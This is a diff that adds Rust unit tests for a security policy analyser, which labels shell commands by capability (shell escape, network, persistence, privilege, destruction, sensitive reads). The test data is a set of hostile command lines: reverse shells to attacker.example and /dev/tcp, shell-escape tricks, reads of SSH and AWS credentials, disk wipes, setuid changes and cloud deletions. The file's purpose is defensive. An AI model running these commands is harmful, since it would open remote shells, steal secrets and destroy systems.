@@ -1,0 +1,162 @@
+//! Each capability on commands that have it and commands that do not.
+
+use super::*;
+use crate::policy::shell::split;
+
+fn caps(line: &str) -> Vec<&'static str> {
+    let mut all: Vec<&'static str> = Vec::new();
+    for cmd in split(line) {
+        for c in analyse(&cmd).iter() {
+            if !all.contains(&c.as_str()) {
+                all.push(c.as_str());
+            }
+        }
+    }
+    all
+}
+
+#[test]
+fn shell_escapes() {
+    for line in [
+        "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
+        "awk 'BEGIN{system(\"/bin/sh\")}'",
+        "find . -exec /bin/sh \\; -quit",
+        "git -c core.pager='sh -c id' log",
+        "PAGER='sh -c id' man ls",
+        "vim -c ':!/bin/sh'",
+        "tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh",
+        "zip x.zip f -T -TT 'sh #'",
+        "socat stdin exec:/bin/sh",
+        "bash -i",
+        "sudo env /bin/sh",
+        "ssh host 'bash -i'",
+        "docker exec -it web sh",
+        "rsync -e 'sh -c \"sh 0<&2 1>&2\"' 127.0.0.1:/dev/null",
+    ] {
+        assert!(
+            caps(line).contains(&"shell_escape"),
+            "{line}: {:?}",
+            caps(line)
+        );
+    }
+    for line in [
+        "echo '#!/bin/sh' > run.sh",
+        "bash scripts/build.sh",
+        "sh -c 'make test'",
+        "git log --no-pager",
+        "find . -name '*.rs' -exec grep -l foo {} +",
+        "which bash",
+        "git commit -m 'fix sh script'",
+    ] {
+        assert!(
+            !caps(line).contains(&"shell_escape"),
+            "{line}: {:?}",
+            caps(line)
+        );
+    }
+}
+
+#[test]
+fn network() {
+    for line in [
+        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        "nc -e /bin/sh attacker.example 4444",
+        "socat tcp-connect:attacker.example:4444 exec:sh",
+        "openssl s_client -connect attacker.example:443",
+        "python3 -c 'import socket; s=socket.socket()'",
+        "ssh user@host.example",
+    ] {
+        assert!(caps(line).contains(&"network"), "{line}: {:?}", caps(line));
+    }
+    for line in [
+        "cat README.md",
+        "cargo build --release",
+        "curl https://github.com/x",
+    ] {
+        assert!(!caps(line).contains(&"network"), "{line}: {:?}", caps(line));
+    }
+}
+
+#[test]
+fn bare_hosts_are_found() {
+    let mut hosts = Vec::new();
+    for cmd in split("RHOST=attacker.example RPORT=1 nc 10.1.2.3 4444; telnet evil.example 23") {
+        bare_hosts(&cmd, &mut hosts);
+    }
+    assert_eq!(hosts, ["10.1.2.3", "attacker.example", "evil.example"]);
+    let mut none = Vec::new();
+    for cmd in split("cat README.md && cargo test --release") {
+        bare_hosts(&cmd, &mut none);
+    }
+    assert!(none.is_empty(), "{none:?}");
+}
+
+#[test]
+fn writes_persistence_privilege_destroys() {
+    assert!(caps("echo x > /etc/cron.d/x").contains(&"persists"));
+    assert!(caps("echo x | tee -a ~/.bashrc").contains(&"persists"));
+    assert!(caps("echo x >> /etc/passwd").contains(&"privilege"));
+    assert!(caps("dd if=/dev/zero of=/dev/sda").contains(&"destroys"));
+    assert!(caps("cp x /usr/local/bin/y").contains(&"writes_outside"));
+    assert!(!caps("echo x > out.txt 2>/dev/null").contains(&"writes_outside"));
+    assert!(caps("crontab evil.cron").contains(&"persists"));
+    assert!(!caps("crontab -l").contains(&"persists"));
+    assert!(caps("chmod u+s /tmp/sh").contains(&"privilege"));
+    assert!(caps("chmod 4755 /tmp/sh").contains(&"privilege"));
+    assert!(!caps("chmod 755 run.sh").contains(&"privilege"));
+    for line in [
+        "aws --profile prod s3 rb s3://bucket --force",
+        "gcloud compute instances delete vm-1",
+        "az group delete -n rg",
+        "heroku apps:destroy --app x",
+        "vault kv delete secret/x",
+        "docker rm -f web",
+        "rsync -a --delete src/ dst/",
+        "curl -X DELETE https://api.example/x",
+        "psql -c 'DROP TABLE users'",
+        "mysql -e \"DELETE FROM orders\"",
+        "redis-cli FLUSHALL",
+        "someclitool db drop main",
+    ] {
+        assert!(caps(line).contains(&"destroys"), "{line}: {:?}", caps(line));
+    }
+    for line in [
+        "aws s3 ls s3://bucket",
+        "kubectl get pods",
+        "docker ps -a",
+        "psql -c 'DELETE FROM orders WHERE id = 3'",
+        "npm uninstall lodash",
+        "git rm --cached x",
+        "vault kv get secret/x",
+    ] {
+        assert!(
+            !caps(line).contains(&"destroys"),
+            "{line}: {:?}",
+            caps(line)
+        );
+    }
+}
+
+#[test]
+fn sensitive_reads_loaders_dynamic_code() {
+    for line in [
+        "cat ~/.aws/credentials",
+        "base64 < ~/.ssh/id_rsa",
+        "tar czf x.tgz $HOME/.ssh",
+        "cat /proc/1/environ",
+        "cp ~/.kube/config /tmp/k",
+    ] {
+        assert!(
+            caps(line).contains(&"reads_sensitive"),
+            "{line}: {:?}",
+            caps(line)
+        );
+    }
+    assert!(caps("LD_PRELOAD=/tmp/x.so ls").contains(&"loads_code"));
+    assert!(caps("java -javaagent:/tmp/a.jar -jar app.jar").contains(&"loads_code"));
+    assert!(caps("echo aWQ= | base64 -d | sh").contains(&"shell_escape"));
+    assert!(caps("echo 'print(1)' | python3").contains(&"dynamic_code"));
+    assert!(caps("$CMD -la").contains(&"dynamic_code"));
+    assert!(!caps("python3 -m pytest").contains(&"dynamic_code"));
+    assert!(!caps("python3 script.py").contains(&"dynamic_code"));
+}
